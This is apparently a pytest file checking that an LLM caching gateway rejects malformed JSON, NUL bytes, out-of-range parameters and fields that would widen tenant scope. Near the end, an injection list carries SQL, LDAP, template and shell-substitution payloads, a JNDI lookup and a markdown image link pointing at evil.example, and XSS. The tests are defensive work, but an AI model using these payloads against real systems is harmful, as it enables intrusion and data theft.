"""Bodies that are hardly JSON and requests that are hardly chats: rows B-01 to B-08, B-12, B-13, B-19 to B-34."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import orjson
import pytest

from tests.api.in_process import InProcess, assert_error, in_process
from tests.effort import cpu_s


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InProcess]:
    with in_process(tmp_path_factory.mktemp("bad-json")) as found:
        yield found


CHAT = b'{"model":"fake-model","messages":[{"role":"user","content":"%s"}]}'
GOOD = CHAT % b"Is this in order?"
#: Every endpoint that reads a body, with whose key it is asked.
BODY_ENDPOINTS = [
    ("POST", "/v1/chat/completions", "tenant"),
    ("POST", "/v1/embeddings", "tenant"),
    ("POST", "/v1/cache/lookup", "tenant"),
    ("POST", "/v1/cache/entries", "tenant"),
    ("POST", "/v1/cache/invalidate", "tenant"),
    ("POST", "/v1/cache/feedback", "tenant"),
    ("POST", "/admin/v1/organisations", "platform"),
    ("POST", "/admin/v1/tenants", "platform"),
    ("PATCH", "/admin/v1/tenants/ten_x", "platform"),
    ("DELETE", "/admin/v1/tenants/ten_x", "platform"),
    ("POST", "/admin/v1/keys", "tenant"),
    ("POST", "/admin/v1/keys/abc/rotate", "tenant"),
    ("POST", "/admin/v1/policies", "tenant"),
    ("PUT", "/admin/v1/models/a-model", "platform"),
    ("PUT", "/admin/v1/upstreams/an-upstream", "platform"),
]
NO_OBJECTS = {
    "empty": b"",
    "blank": b"  \n",
    "null": b"null",
    "list": b"[]",
    "string": b'"x"',
    "number": b"0",
    "true": b"true",
    "truncated": b'{"model":"a","mess',
    "garbage behind": b"{} x",
    "two values": b"{}{}",
    "two lines": b"{}\n{}",
    "byte order mark": b"\xef\xbb\xbf{}",
    "duplicate key": b'{"model":"a","model":"b"}',
    "duplicate nested key": b'{"a":{"b":1,"b":1}}',
    "escaped duplicate key": b'{"model":"a","\\u006dodel":"b"}',
    "deep list": b'{"a":' + b"[" * 10_000 + b"]" * 10_000 + b"}",
    "deep object": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "unclosed deep list": b"[" * 500_000,
    "many values": b'{"a":[' + b"1," * 20_000 + b"1]}",
    "integer of 5,000 digits": b'{"a":' + b"9" * 5_000 + b"}",
    "integer beyond 2^53": b'{"a":9007199254740993}',
    "1e400": b'{"a":1e400}',
    "NaN": b'{"a":NaN}',
    "Infinity": b'{"a":Infinity}',
    "-Infinity": b'{"a":-Infinity}',
    "-0": b'{"a":-0}',
    "leading zero": b'{"a":01}',
    "hexadecimal": b'{"a":0x10}',
    "plus": b'{"a":+1}',
    "comment": b'{"a":1/*x*/}',
    "trailing comma": b'{"a":1,}',
    "single quotes": b"{'a':1}",
    "lone surrogate": b'{"a":"\\ud800"}',
    "lone surrogate key": b'{"\\udfff":1}',
    "swapped surrogates": b'{"a":"\\udc00\\ud800"}',
    "invalid UTF-8": b'{"a":"\xff\xfe"}',
    "overlong UTF-8": b'{"a":"\xc0\x80"}',
    "encoded surrogate": b'{"a":"\xed\xa0\x80"}',
    "UTF-16": '{"a":1}'.encode("utf-16"),
    "UTF-32": '{"a":1}'.encode("utf-32"),
    "raw NUL": b'{"a":"\x00"}',
    "raw newline": b'{"a":"\n"}',
}


def key_for(house: InProcess, whose: str) -> str:
    return house.gateway.platform_key if whose == "platform" else house.gateway.tenants[0].key


@pytest.mark.parametrize("name", NO_OBJECTS)
def test_a_body_that_is_not_one_unambiguous_json_object_is_a_400_everywhere(house: InProcess, name: str) -> None:
    for method, path, whose in BODY_ENDPOINTS:
        response = house.call(method, path, key=key_for(house, whose), body=NO_OBJECTS[name])
        error = assert_error(response, 400)
        assert "Traceback" not in response.text
        assert error.get("message", error.get("detail"))


def test_a_good_chat_is_answered(house: InProcess) -> None:
    assert house.call("POST", "/v1/chat/completions", body=GOOD).status_code == 200


def test_a_hundred_thousand_keys_with_one_twice_cost_no_more_than_reading_them(house: InProcess) -> None:
    keys = b",".join(b'"%x":0' % number for number in range(100_000))
    body = b"{" + keys + b',"%x":0}' % 99_999
    assert len(body) < 1 << 20
    assert cpu_s(lambda: assert_error(house.call("POST", "/v1/chat/completions", body=body), 400)) < 2


def test_a_mebibyte_of_brackets_is_refused_quickly(house: InProcess) -> None:
    body = (CHAT % (b"[{" * 500_000))[: (1 << 20) - 1]
    assert cpu_s(lambda: assert_error(house.call("POST", "/v1/chat/completions", body=body), 400)) < 0.5


@pytest.mark.parametrize("depth", [31, 32, 33])
def test_nesting_is_allowed_up_to_its_limit(house: InProcess, depth: int) -> None:
    metadata = b'{"type":"json_schema","x":' + b"[" * (depth - 2) + b"]" * (depth - 2) + b"}"
    body = GOOD[:-1] + b',"response_format":' + metadata + b"}"
    assert house.call("POST", "/v1/chat/completions", body=body).status_code == (200 if depth <= 32 else 400)


# B-07


@pytest.mark.parametrize(
    ("method", "path", "whose", "body"),
    [
        ("POST", "/v1/chat/completions", "tenant", {"model": "a\0b", "messages": [{"role": "user", "content": "x"}]}),
        ("POST", "/v1/chat/completions", "tenant", {"model": "fake-model", "messages": [{"role": "user", "content": "x"}],
                                                    "hitproof": {"tags": ["a\0b"]}}),
        ("POST", "/v1/cache/invalidate", "tenant", {"tag": "a\0b"}),
        ("POST", "/v1/cache/invalidate", "tenant", {"model_version": "a\0b"}),
        ("POST", "/v1/cache/feedback", "tenant", {"hit": "hit_\0", "verdict": "good"}),
        ("POST", "/admin/v1/organisations", "platform", {"name": "a\0b"}),
        ("POST", "/admin/v1/tenants", "platform", {"organisation": "org_\0", "name": "a"}),
        ("POST", "/admin/v1/tenants", "platform", {"organisation": "org_x", "name": "a\0"}),
        ("POST", "/admin/v1/keys", "tenant", {"label": "a\0b"}),
        ("POST", "/admin/v1/keys", "platform", {"tenant": "a\0b"}),
        ("POST", "/admin/v1/policies", "platform", {"tenant": "a\0b", "policy": {}}),
        ("PUT", "/admin/v1/models/m", "platform", {"upstream": "a\0b"}),
        ("PUT", "/admin/v1/models/m", "platform", {"upstream": "fake", "requested": "a\0b"}),
        ("PUT", "/admin/v1/upstreams/u", "platform", {"kind": "openai", "base_url": "https://a\0b.example/v1"}),
        ("PUT", "/admin/v1/upstreams/u", "platform", {"kind": "openai", "base_url": "https://a.example", "key": "env:A\0"}),
    ],
)  # fmt: skip
def test_a_nul_in_a_name_or_id_is_a_400(
    house: InProcess, method: str, path: str, whose: str, body: dict[str, Any]
) -> None:
    assert_error(house.call(method, path, key=key_for(house, whose), json=body), 400)


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/v1/models/a%00b"),
        ("GET", "/v1/cache/entries/ent_%00000000000"),
        ("GET", "/v1/cache/entries?tag=a%00b"),
        ("GET", "/v1/cache/entries?model=a%00b"),
        ("DELETE", "/admin/v1/keys/a%00b"),
        ("GET", "/admin/v1/tenants/a%00b"),
        ("GET", "/admin/v1/keys?tenant=a%00b"),
    ],
)
def test_a_nul_in_a_url_is_a_400(house: InProcess, method: str, path: str) -> None:
    assert_error(house.call(method, path), 400)


def test_a_nul_in_a_prompt_is_text_like_any_other(house: InProcess) -> None:
    response = house.chat("before\0after")
    assert response.status_code == 200
    assert house.chat("before\0after").json()["hitproof"]["outcome"] == "hit"
    assert house.chat("before").json()["hitproof"]["outcome"] == "miss"


# B-08, B-12, B-13


@pytest.mark.parametrize(
    "kind",
    [
        None,
        "",
        "text/plain",
        "text/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/jsonp",
        "application/json; charset=latin-1",
        "application/json; charset=utf-16",
        'application/json; charset="utf-7"',
        "application/json, application/json",
    ],
)
def test_a_body_that_is_not_declared_json_in_utf_8_is_a_415(house: InProcess, kind: str | None) -> None:
    headers = [("Authorization", f"Bearer {house.gateway.tenants[0].key}")]
    if kind is not None:
        headers.append(("Content-Type", kind))
    response = house.run(house.gateway.client.request("POST", "/v1/chat/completions", content=GOOD, headers=headers))
    assert_error(response, 415)


@pytest.mark.parametrize(
    "kind", ["application/json", "Application/JSON; Charset=UTF-8", 'application/json;charset="utf8"']
)
def test_json_in_utf_8_may_be_declared_in_any_case(house: InProcess, kind: str) -> None:
    response = house.call("POST", "/v1/chat/completions", body=GOOD, headers={"Content-Type": kind})
    assert response.status_code == 200


@pytest.mark.parametrize("coding", ["gzip", "br", "deflate", "zstd", "identity, gzip", "GZIP"])
def test_a_compressed_body_is_a_415_and_never_expanded(house: InProcess, coding: str) -> None:
    response = house.call("POST", "/v1/chat/completions", body=GOOD, headers={"Content-Encoding": coding})
    assert_error(response, 415)


# B-19


@pytest.mark.parametrize(
    ("messages", "param"),
    [
        ([], "messages"),
        ({}, "messages"),
        ("hello", "messages"),
        (None, "messages"),
        ([None], "messages.0"),
        ([{"role": "user", "content": "x"}] * 257, "messages"),
        ([{"role": "wizard", "content": "x"}], "messages.0.role"),
        ([{"role": None, "content": "x"}], "messages.0.role"),
        ([{"content": "x"}], "messages.0.role"),
        ([{"role": "user"}], "messages.0.content"),
        ([{"role": "user", "content": None}], "messages.0.content"),
        ([{"role": "user", "content": 7}], "messages.0.content"),
        ([{"role": "user", "content": ["x"]}], "messages.0.content"),
        ([{"role": "user", "content": [{"text": "x"}]}], "messages.0.content"),
        ([{"role": "user", "content": [{"type": "text"}]}], "messages.0.content"),
        ([{"role": "user", "content": [{"type": "text", "text": 1}]}], "messages.0.content"),
        ([{"role": "user", "content": []}], "messages.0.content"),
        ([{"role": "user", "content": "x", "tenant_id": "t"}], "messages.0.tenant_id"),
    ],
)
def test_a_conversation_that_is_none_is_a_400_that_names_the_place(house: InProcess, messages: Any, param: str) -> None:
    response = house.call("POST", "/v1/chat/completions", json={"model": "fake-model", "messages": messages})
    assert str(assert_error(response, 400)["param"]).startswith(param)


def test_an_image_goes_to_the_upstream_and_is_never_matched_by_meaning(house: InProcess) -> None:
    image = [
        {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}},
        {"type": "text", "text": "this?"},
    ]
    response = house.call(
        "POST", "/v1/chat/completions", json={"model": "fake-model", "messages": [{"role": "user", "content": image}]}
    )
    assert response.status_code == 200
    assert response.json()["hitproof"]["reason"].startswith("not_a_text_question")


# B-20


@pytest.mark.parametrize("text", ["", " ", "\n\t ", "\u200b\u200d\ufeff", "\u202e\u2066", "\u00a0\u3000"])
def test_a_question_that_shows_nothing_is_a_400(house: InProcess, text: str) -> None:
    assert_error(house.chat(text), 400)


@pytest.mark.parametrize(
    "text", ["🦭", "🏴‍☠️👩‍👩‍👧", "a", "\u202egnp.exe", "́́́", "x" * 250_000, "é" * 100_000, "a b " * 50_000]
)
def test_odd_questions_are_answered_in_bounded_time(house: InProcess, text: str) -> None:
    started = time.process_time()
    assert house.chat(text).status_code == 200
    assert time.process_time() - started < 2


def test_more_text_than_the_limit_is_a_400(house: InProcess) -> None:
    assert assert_error(house.chat("x" * (262_144 + 1)), 400)["param"] == "messages"


# B-21


@pytest.mark.parametrize(
    "model",
    [
        "unknown",
        "../fake-model",
        "fake-model/../fake-model",
        "FAKE-MODEL",
        "fake-model ",
        "' OR 1=1--",
        "${jndi:ldap://x}",
    ],
)
def test_an_unknown_model_is_a_404_that_says_the_same_whatever_it_is(house: InProcess, model: str) -> None:
    response = house.chat("Which model?", model=model)
    error = assert_error(response, 404)
    assert error["code"] == "model_not_found"
    assert error["message"] == f"the model {model!r} does not exist or is not open to you"


@pytest.mark.parametrize("model", ["", None, 7, [], "x" * 201, "a\nb"])
def test_a_model_that_is_no_name_is_a_400(house: InProcess, model: Any) -> None:
    response = house.call(
        "POST", "/v1/chat/completions", json={"model": model, "messages": [{"role": "user", "content": "x"}]}
    )
    assert assert_error(response, 400)["param"] == "model"


# B-22, B-23


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("max_tokens", 0), ("max_tokens", -1), ("max_tokens", 10**9), ("max_tokens", 1.5), ("max_tokens", "10"),
        ("max_tokens", True), ("max_completion_tokens", 0), ("n", 0), ("n", 1000), ("n", "1"), ("temperature", 99),
        ("temperature", -0.1), ("temperature", "hot"), ("temperature", "1"), ("temperature", True), ("temperature", []),
        ("top_p", 1.5), ("stop", ["x"] * 100),
        ("stop", "x" * 2000), ("stop", 7), ("logit_bias", {str(token): 1 for token in range(1000)}),
        ("logit_bias", {"x" * 50: 1}), ("top_logprobs", 100), ("seed", 1.5), ("seed", "1"), ("frequency_penalty", 9),
        ("presence_penalty", -9), ("stream", "yes"), ("stream", 1), ("stream_options", {"include_usage": True}),
        ("user", "x" * 10_240), ("user", 7), ("metadata", {str(number): "x" for number in range(17)}),
        ("metadata", {"a": 1}), ("tools", {}), ("tools", [{}] * 129), ("response_format", "json"),
        ("modalities", ["text"] * 5), ("unknown_field", 1), ("", 1),
    ],
)  # fmt: skip
def test_a_parameter_out_of_range_is_a_400_that_names_it(house: InProcess, field: str, value: Any) -> None:
    asked = len(house.gateway.upstream.requests)
    error = assert_error(house.chat("Parameters?", **{field: value}), 400)
    assert str(error["param"]).split(".")[0] == field
    assert len(house.gateway.upstream.requests) == asked


def test_a_list_that_is_too_long_is_not_said_to_want_a_text(house: InProcess) -> None:
    error = assert_error(house.chat("Parameters?", stop=["x"] * 5), 400)
    assert (error["param"], "at most 4" in error["message"]) == ("stop", True)
    error = assert_error(house.call("POST", "/v1/embeddings", json={"input": 7}), 400)
    assert (error["param"], "text" in error["message"] or "string" in error["message"]) == ("input", True)


@pytest.mark.parametrize("options", [{"junk": 1}, {"include_usage": "yes"}, [], "x"])
def test_stream_options_that_are_junk_are_a_400(house: InProcess, options: Any) -> None:
    error = assert_error(house.chat("Stream?", stream=True, stream_options=options), 400)
    assert str(error["param"]).startswith("stream_options")


def test_a_stream_of_several_choices_is_in_order_and_not_reused_by_meaning(house: InProcess) -> None:
    response = house.chat("Several at once?", stream=True, n=4, logprobs=True, stream_options={"include_usage": True})
    assert response.status_code == 200
    events = [line[6:] for line in response.text.split("\n\n") if line]
    assert events[-1] == "[DONE]"
    assert orjson.loads(events[-2])["hitproof"]["reason"].startswith("several_choices")
    assert all(isinstance(orjson.loads(event), dict) for event in events[:-1])


# B-24


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("tools", [{"type": "function", "function": {"name": "f", "parameters": {}}}]),
        ("functions", [{"name": "f", "parameters": {}}]),
        ("response_format", {"type": "json_object"}),
        ("seed", 7),
        ("seed", 0),
        ("web_search_options", {}),
    ],
)
def test_what_shapes_an_answer_passes_through_and_is_never_matched_by_meaning(
    house: InProcess, field: str, value: Any
) -> None:
    response = house.chat(f"please tell me how the blue mountain lake came about with {field}", **{field: value})
    assert response.status_code == 200
    assert house.gateway.upstream.requests[-1][field] == value
    alike = house.chat(f"please tell me how the blue mountain lake came with {field} about", **{field: value})
    assert alike.json()["hitproof"]["outcome"] == "miss"


# B-25, B-26, B-27, B-31


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("cache_salt", "x"), ("prompt_cache_key", "x"), ("api_base", "https://evil.example"),
        ("base_url", "https://evil.example"), ("api_key", "sk-x"), ("extra_headers", {"a": "b"}), ("extra_body", {}),
        ("tenant_id", "t"), ("tenant", "t"), ("role", "owner"), ("quota", {}), ("custom_llm_provider", "x"),
    ],
)  # fmt: skip
def test_a_field_that_could_move_scope_or_money_is_refused_by_name(house: InProcess, field: str, value: Any) -> None:
    asked = len(house.gateway.upstream.requests)
    error = assert_error(house.chat("Whose money?", **{field: value}), 400)
    assert (error["param"], error["code"]) == (field, "unknown_parameter")
    assert len(house.gateway.upstream.requests) == asked


def test_a_header_that_names_a_tenant_changes_nothing(house: InProcess) -> None:
    text = "Whose question is this one here?"
    other = house.gateway.tenants[1]
    assert house.chat(text, key=other.key).json()["hitproof"]["outcome"] == "miss"
    headers = {"X-Tenant-Id": other.id, "OpenAI-Organization": other.id, "X-Hitproof-Tenant": other.id}
    assert house.chat(text, headers=headers).json()["hitproof"]["outcome"] == "miss"


def test_the_upstream_gets_a_salt_of_the_tenants_own_and_none_of_the_clients_words(house: InProcess) -> None:
    house.chat("What does the upstream see?", user="somebody", hitproof={"tags": ["a"]})
    seen, salt = house.gateway.upstream.requests[-1], house.gateway.upstream.salts[-1]
    assert "hitproof" not in seen
    house.chat("What does the upstream see?", key=house.gateway.tenants[1].key)
    assert salt != house.gateway.upstream.salts[-1]
    assert house.gateway.tenants[0].id not in salt


def test_a_client_cannot_lower_the_threshold(house: InProcess) -> None:
    house.chat("please tell me how very deep the blue mountain lake really is in winter")
    loose = house.chat("please tell us where the green valley river really ends in winter", hitproof={"threshold": 0})
    assert loose.json()["hitproof"]["outcome"] == "miss"


@pytest.mark.parametrize(
    "options",
    [{"isolation": "none"}, {"scope": "global"}, {"threshold": -1}, {"threshold": 2}, {"ttl": 0}, {"tags": ["x"] * 17},
     {"tags": ["\n"]}, {"tenant": "x"}, [], "x"],
)  # fmt: skip
def test_cache_options_that_loosen_or_are_junk_are_a_400(house: InProcess, options: Any) -> None:
    assert str(assert_error(house.chat("Options?", hitproof=options), 400)["param"]).startswith("hitproof")


def test_asking_to_share_without_a_policy_that_does_is_a_403(house: InProcess) -> None:
    assert_error(house.chat("Share?", hitproof={"share": True}), 403)


def test_another_tenants_user_name_opens_nothing(house: InProcess) -> None:
    assert house.chat("Who am I to you?", user="alice").json()["hitproof"]["outcome"] == "miss"
    other = house.chat("Who am I to you?", user="alice", key=house.gateway.tenants[1].key)
    assert other.json()["hitproof"]["outcome"] == "miss"


@pytest.mark.parametrize(
    ("path", "whose", "body"),
    [
        ("/admin/v1/organisations", "platform", {"name": "x", "id": "org_mine"}),
        ("/admin/v1/tenants", "platform", {"name": "x", "organisation": "o", "status": "active"}),
        ("/admin/v1/keys", "tenant", {"key_id": "mine", "role": "owner"}),
        ("/admin/v1/keys", "tenant", {"secret": "mine"}),
        ("/admin/v1/policies", "tenant", {"policy": {"tenant_id": "t"}}),
        ("/v1/cache/entries", "tenant", {"model": "fake-model", "messages": [{"role": "user", "content": "x"}],
                                         "answer": "a", "tenant_id": "t"}),
        ("/v1/cache/invalidate", "tenant", {"all": True, "tenant": "t"}),
    ],
)  # fmt: skip
def test_a_field_that_is_not_the_clients_to_set_is_refused(
    house: InProcess, path: str, whose: str, body: dict[str, Any]
) -> None:
    assert_error(house.call("POST", path, key=key_for(house, whose), json=body), 400)


# B-29


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/v1/cache/entries?limit=-1", 400),
        ("/v1/cache/entries?limit=0", 400),
        ("/v1/cache/entries?limit=1000000000", 400),
        ("/v1/cache/entries?limit=99999999999999999999999999", 400),
        ("/v1/cache/entries?limit=ten", 400),
        ("/v1/cache/entries?limit=1&limit=2", 200),
        ("/v1/cache/entries?after=garbage", 404),
        ("/v1/cache/entries?after=" + "a" * 41, 400),
        ("/v1/cache/entries?after=%F0%9F%A6%AD", 404),
        ("/v1/cache/stats?days=0", 400),
        ("/v1/cache/stats?days=100000", 400),
        ("/v1/cache/stats?days=1e2", 400),
        ("/admin/v1/audit-log?after=-1", 400),
        ("/admin/v1/audit-log?after=9999999999999999999999", 400),
        ("/admin/v1/audit-log?limit=501", 400),
    ],
)
def test_a_page_that_cannot_be_is_refused(house: InProcess, path: str, status: int) -> None:
    response = house.call("GET", path)
    assert response.status_code == status, response.text
    if status != 200:
        assert_error(response, status)


def test_a_bad_parameter_is_named_and_not_echoed(house: InProcess) -> None:
    response = house.call("GET", "/v1/cache/entries?limit=canary-7c1f")
    assert assert_error(response, 400)["param"] == "limit"
    assert "canary" not in response.text


# B-32, B-33, B-34

INJECTIONS = ["' OR 1=1--", '"; DROP TABLE entries;--', "*)(uid=*))(|(uid=*", "${jndi:ldap://evil.example/a}", "{{7*7}}",
              "$(id)", "`id`", "%s%s%n", "=HYPERLINK(\"http://evil\")", "<script>alert(1)</script>", "\x1b[31mred\x1b[0m",
              "![x](https://evil.example/?q=)"]  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_injection_is_text_everywhere(house: InProcess, text: str) -> None:
    first = house.chat(f"What is {text} then?", user=text[:100])
    assert first.status_code == 200
    assert first.json()["choices"][0]["message"]["content"] == f"You asked: What is {text} then?"
    entry = house.call("GET", f"/v1/cache/entries/{first.json()['hitproof']['entry']}")
    assert text in entry.json()["response"]["choices"][0]["message"]["content"]
    assert entry.headers["content-type"] == "application/json"
    assert house.call("GET", "/v1/cache/entries", headers={"User-Agent": "x"}).status_code == 200
    listed = house.run(
        house.gateway.client.get(
            "/v1/cache/entries", params={"tag": text, "model": text},
            headers={"Authorization": f"Bearer {house.gateway.tenants[0].key}"},
        )
    )  # fmt: skip
    assert listed.json()["data"] == []


@pytest.mark.parametrize("text", [text for text in INJECTIONS if "\x1b" not in text])
def test_an_injection_for_a_key_is_a_401(house: InProcess, text: str) -> None:
    response = house.call("GET", "/v1/models", key="", headers={"Authorization": f"Bearer {text}"})
    assert_error(response, 401)
    assert text not in response.text
